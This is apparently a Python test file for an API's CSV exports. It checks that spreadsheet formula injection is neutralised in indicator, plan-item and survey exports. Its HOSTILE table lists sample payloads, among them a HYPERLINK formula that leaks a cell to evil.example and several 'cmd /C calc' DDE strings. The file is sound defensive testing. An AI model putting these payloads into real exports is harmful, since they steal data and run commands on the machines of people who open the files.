"""Every CSV export goes through api/csv_export.py: a text that a spreadsheet would run as a formula
(starting with = + - @, a tab or a carriage return) is prefixed with `'`; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

from api.models import PlanStatus
from api.security.scopes import Role
from tests.indicators.helpers import make_indicator, make_value
from tests.plans.helpers import PLANS, make_item, make_plan
from tests.surveys.factories import make_campaign, make_questionnaire
from tests.surveys.helpers import KNOWN, submit_known

HOSTILE = {
    '=HYPERLINK("http://evil.example/?x="&A1,"click")': '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_indicator_values_csv_neutralises_names(client, world, session):
    """The municipality pull as CSV: indicator and institution names are people's text."""
    world.a.institution.name = "=1+1 institution"
    session.add(world.a.institution)
    made = []
    for i, hostile in enumerate(HOSTILE):
        indicator = make_indicator(session, code=f"EVIL_{i}", name_lt=hostile, name_en=hostile)
        made.append(make_value(session, indicator, world.a.institution, "2025", -3.5 - i))
    session.commit()
    r = client.get(
        "/api/v1/indicator-values", headers={**world.headers(Role.municipality_analyst), "Accept": "text/csv"}
    )
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    rows = {row["indicator_code"]: row for row in rows_of(r.text) if row["indicator_code"].startswith("EVIL_")}
    assert len(rows) == len(HOSTILE)
    for i, safe in enumerate(HOSTILE.values()):
        row = rows[f"EVIL_{i}"]
        assert (row["indicator_name_lt"], row["indicator_name_en"]) == (safe, safe)
        assert row["institution_name"] == "'=1+1 institution"
        assert row["value"] == str(-3.5 - i)  # a negative number is not a formula
        assert row["id"] == str(made[i].id)


def test_plan_items_csv_neutralises_every_formula_start(client, world, session):
    plan = make_plan(session, world, status=PlanStatus.approved, items=0)
    for hostile in HOSTILE:
        make_item(
            session,
            plan,
            title=hostile,
            description=hostile,
            indicator=hostile,
            due_date=date(2026, 3, 1),
            target_value=-4,
        )
    r = client.get(f"{PLANS}/{plan.id}/items.csv", headers=world.headers(Role.staff))
    assert r.status_code == 200, r.text
    rows = rows_of(r.text)
    assert sorted(row["title"] for row in rows) == sorted(HOSTILE.values())
    for row in rows:
        assert row["description"] == row["title"] == row["indicator"]
        assert row["target_value"] == "-4"


def test_survey_export_neutralises_answers(client, world, session):
    c = make_campaign(session, make_questionnaire(session, world.a.institution), world.a.institution)
    hostile = list(HOSTILE)
    for text in hostile:
        submit_known(client, world, c, rows=KNOWN[:1], Q_COMMENT=text)
    r = client.get(f"/api/v1/surveys/campaigns/{c.id}/export", headers=world.headers(Role.quality_lead))
    assert r.status_code == 200, r.text
    rows = rows_of(r.text)
    # Requests strip surrounding whitespace, so the tab and CR cases arrive as `=1+1`.
    assert sorted(row["Q_COMMENT"] for row in rows) == sorted("'" + text.strip() for text in HOSTILE)
    assert {row["Q_SAT"] for row in rows} == {str(KNOWN[0][0])}


def test_one_csv_writer():
    """Only api/csv_export.py writes CSV: a new export cannot forget the neutralising."""
    api = Path(__file__).resolve().parents[2] / "api"
    uses_csv = re.compile(r"^(import csv|from csv import)|csv\.(writer|DictWriter)", re.MULTILINE)
    writers = sorted(str(p.relative_to(api)) for p in api.rglob("*.py") if uses_csv.search(p.read_text()))
    assert writers == ["csv_export.py"]
